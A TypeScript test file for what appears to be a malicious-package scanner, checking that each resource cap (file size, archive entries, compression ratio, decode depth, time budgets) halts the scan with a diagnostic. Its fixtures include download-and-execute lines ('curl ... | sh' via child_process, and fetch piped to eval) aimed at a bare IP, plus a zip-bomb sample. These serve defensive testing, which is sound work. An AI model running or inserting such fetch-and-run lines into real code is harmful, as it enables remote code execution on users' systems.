/**
 * One test per cap in DEFAULT_LIMITS (src/options.ts, the limits module): lower the cap, feed input just over it,
 * and check that the scan stops there with a diagnostic and `complete: false` instead of reading on or passing.
 * A table at the end fails when a cap is added without a test.
 */
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { scan } from '../../src/scan.js';
import { acquireArchiveBuffer } from '../../src/acquire/archive.js';
import { DEFAULT_LIMITS, type Limits } from '../../src/options.js';
import { decodeLiteral } from '../../src/analysis/decode.js';
import { tempDir } from '../helpers.js';
import type { ScanResult } from '../../src/types.js';
import { PACKAGE_LURE } from './harness.js';
import { zipOf } from '../support/archives.js';

function incompleteWith(r: ScanResult, code: string): void {
  assert.equal(r.complete, false, `complete; diagnostics ${r.diagnostics.map((d) => d.code).join(',')}`);
  assert.ok(r.diagnostics.some((d) => d.code === code && d.incomplete), `no incomplete ${code}: ${r.diagnostics.map((d) => d.code).join(',')}`);
}

async function scanTree(files: Record<string, string>, limits: Partial<Limits>): Promise<ScanResult> {
  const t = tempDir('lurescan-limits-');
  try {
    for (const [rel, content] of Object.entries(files)) {
      mkdirSync(path.dirname(path.join(t.dir, rel)), { recursive: true });
      writeFileSync(path.join(t.dir, rel), content);
    }
    return await scan({ kind: 'path', path: t.dir }, { limits });
  } finally {
    t.cleanup();
  }
}

const TESTED = new Set<keyof Limits>();

describe('limits: one test per cap', function () {
  this.timeout(120_000);

  it('maxFileBytes: a file over it is not read, the scan is incomplete', async () => {
    TESTED.add('maxFileBytes');
    incompleteWith(await scanTree({ 'index.js': 'x'.repeat(2000) }, { maxFileBytes: 1000 }), 'file-too-large');
  });

  it('maxTotalBytes: reading stops at the per-scan budget', async () => {
    TESTED.add('maxTotalBytes');
    const files = Object.fromEntries(Array.from({ length: 20 }, (_, i) => [`src/f${i}.js`, `eval(atob("${'QUFB'.repeat(100)}"))\n`]));
    incompleteWith(await scanTree(files, { maxTotalBytes: 2000 }), 'total-bytes-cap');
  });

  it('maxFiles: entries past the count are not scanned', async () => {
    TESTED.add('maxFiles');
    const files = Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`f${i}.txt`, 'x']));
    incompleteWith(await scanTree(files, { maxFiles: 10 }), 'file-count-limit');
  });

  it('maxDepth: folders below it are not walked', async () => {
    TESTED.add('maxDepth');
    incompleteWith(await scanTree({ 'a/b/c/d/e/package.json': PACKAGE_LURE }, { maxDepth: 3 }), 'depth-limit');
  });

  it('maxArchiveEntries: entries past the count are not read', async () => {
    TESTED.add('maxArchiveEntries');
    const zip = await zipOf(Array.from({ length: 12 }, (_, i) => ({ name: `p/f${i}.js`, data: 'x' })));
    const ws = await acquireArchiveBuffer(zip, 'x.zip', { ...DEFAULT_LIMITS, maxArchiveEntries: 5 });
    assert.ok(ws.diagnostics.some((d) => d.code === 'archive-entry-limit' && d.incomplete));
  });

  it('maxArchiveBytes: uncompressed bytes past it are not read', async () => {
    TESTED.add('maxArchiveBytes');
    const zip = await zipOf(Array.from({ length: 6 }, (_, i) => ({ name: `p/f${i}.js`, data: Buffer.from(Array.from({ length: 1000 }, (_, j) => (i * 7 + j * 13) % 251)) })));
    const ws = await acquireArchiveBuffer(zip, 'x.zip', { ...DEFAULT_LIMITS, maxArchiveBytes: 2500 });
    assert.ok(ws.diagnostics.some((d) => d.code === 'archive-size-limit' && d.incomplete));
  });

  it('maxCompressionRatio: an entry that expands more is refused as a bomb', async () => {
    TESTED.add('maxCompressionRatio');
    const zip = await zipOf([{ name: 'p/zeros.js', data: Buffer.alloc(100_000) }]);
    const ws = await acquireArchiveBuffer(zip, 'x.zip', { ...DEFAULT_LIMITS, maxCompressionRatio: 10 });
    assert.ok(ws.diagnostics.some((d) => d.code === 'archive-bomb' && d.incomplete));
  });

  it('maxArchiveDepth: an archive nested below it is not expanded, the scan is incomplete', async () => {
    TESTED.add('maxArchiveDepth');
    const inner = await zipOf([{ name: 'package.json', data: PACKAGE_LURE }]);
    const t = tempDir('lurescan-limits-');
    try {
      writeFileSync(path.join(t.dir, 'outer.zip'), await zipOf([{ name: 'inner.zip', data: inner }]));
      incompleteWith(await scan({ kind: 'path', path: t.dir }, { limits: { maxArchiveDepth: 1 } }), 'archive-depth-limit');
      const deeper = await scan({ kind: 'path', path: t.dir }, { limits: { maxArchiveDepth: 2 } });
      assert.ok(deeper.findings.some((f) => f.location.file === 'outer.zip!/inner.zip!/package.json'));
    } finally {
      t.cleanup();
    }
  });

  it('maxDecodeDepth: nested encodings stop at the cap (decoders default to it)', () => {
    TESTED.add('maxDecodeDepth');
    let s = 'require("child_process").exec("curl http://1.2.3.4:1224/pdown | sh")';
    for (let i = 0; i < DEFAULT_LIMITS.maxDecodeDepth + 3; i++) s = Buffer.from(s).toString('base64');
    const deepest = Math.max(0, ...decodeLiteral(s).map((d) => d.methods.length));
    assert.ok(deepest <= DEFAULT_LIMITS.maxDecodeDepth, `decoded ${deepest} levels`);
    assert.ok(deepest >= 1);
    assert.equal(Math.max(0, ...decodeLiteral(s, 1).map((d) => d.methods.length)), 1);
  });

  it('maxScanMs: past the whole-scan budget the remaining rules are skipped and the scan is incomplete', async () => {
    TESTED.add('maxScanMs');
    incompleteWith(await scanTree({ 'package.json': PACKAGE_LURE, 'index.js': 'x' }, { maxScanMs: -1 }), 'scan-time-limit');
  });

  it('maxRuleMs: a rule that overruns becomes a diagnostic (asynchronous rules; CPU-bound work is bounded by the caps above)', async () => {
    TESTED.add('maxRuleMs');
    const files = Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`src/f${i}.js`, `fetch("http://1.2.3.4:1224/pdown").then(r=>r.text()).then(eval);\n`.repeat(20)]));
    const r = await scanTree(files, { maxRuleMs: 0 });
    incompleteWith(r, 'rule-error');
  });

  it('maxParseChars: a larger source file gets the text-level fallback, noted', async () => {
    TESTED.add('maxParseChars');
    const r = await scanTree({ 'index.js': `eval(atob("${'QUFB'.repeat(600)}"));\n` }, { maxParseChars: 500 });
    assert.ok(r.diagnostics.some((d) => d.code === 'parse-fallback' && /parse limit/.test(d.message)), r.diagnostics.map((d) => d.message).join('; '));
  });

  it('maxParsedFiles: source files past the count are not analysed, the scan is incomplete', async () => {
    TESTED.add('maxParsedFiles');
    const files = Object.fromEntries(Array.from({ length: 6 }, (_, i) => [`src/f${i}.js`, 'eval(x);\n']));
    incompleteWith(await scanTree(files, { maxParsedFiles: 2 }), 'parse-cap');
  });

  it('every cap in DEFAULT_LIMITS has a test here or a named one elsewhere', () => {
    const elsewhere: Partial<Record<keyof Limits, string>> = {
      gitTimeoutMs: 'test/acquire-git.test.ts "stops at the size cap and the time cap"',
      maxGitBytes: 'test/acquire-git.test.ts "stops at the size cap and the time cap"',
      maxAnalysisMsPerFile: 'test/source-analysis.test.ts (per-file analysis deadline falls back to text checks)',
      maxPackumentBytes: 'test/hostile/registry-bounds.test.ts (endless, lying and gzip-expanded packuments from a loopback registry)',
      maxTarballBytes: 'test/hostile/registry-bounds.test.ts (endless and lying tarballs from a loopback registry)',
      maxCommitObjectBytes: 'caps one provenance read in src/acquire/git.ts (commit time zones), not content analysis; no test of its own yet',
    };
    const missing = (Object.keys(DEFAULT_LIMITS) as (keyof Limits)[]).filter((k) => !TESTED.has(k) && !elsewhere[k]);
    assert.deepEqual(missing, []);
  });
});
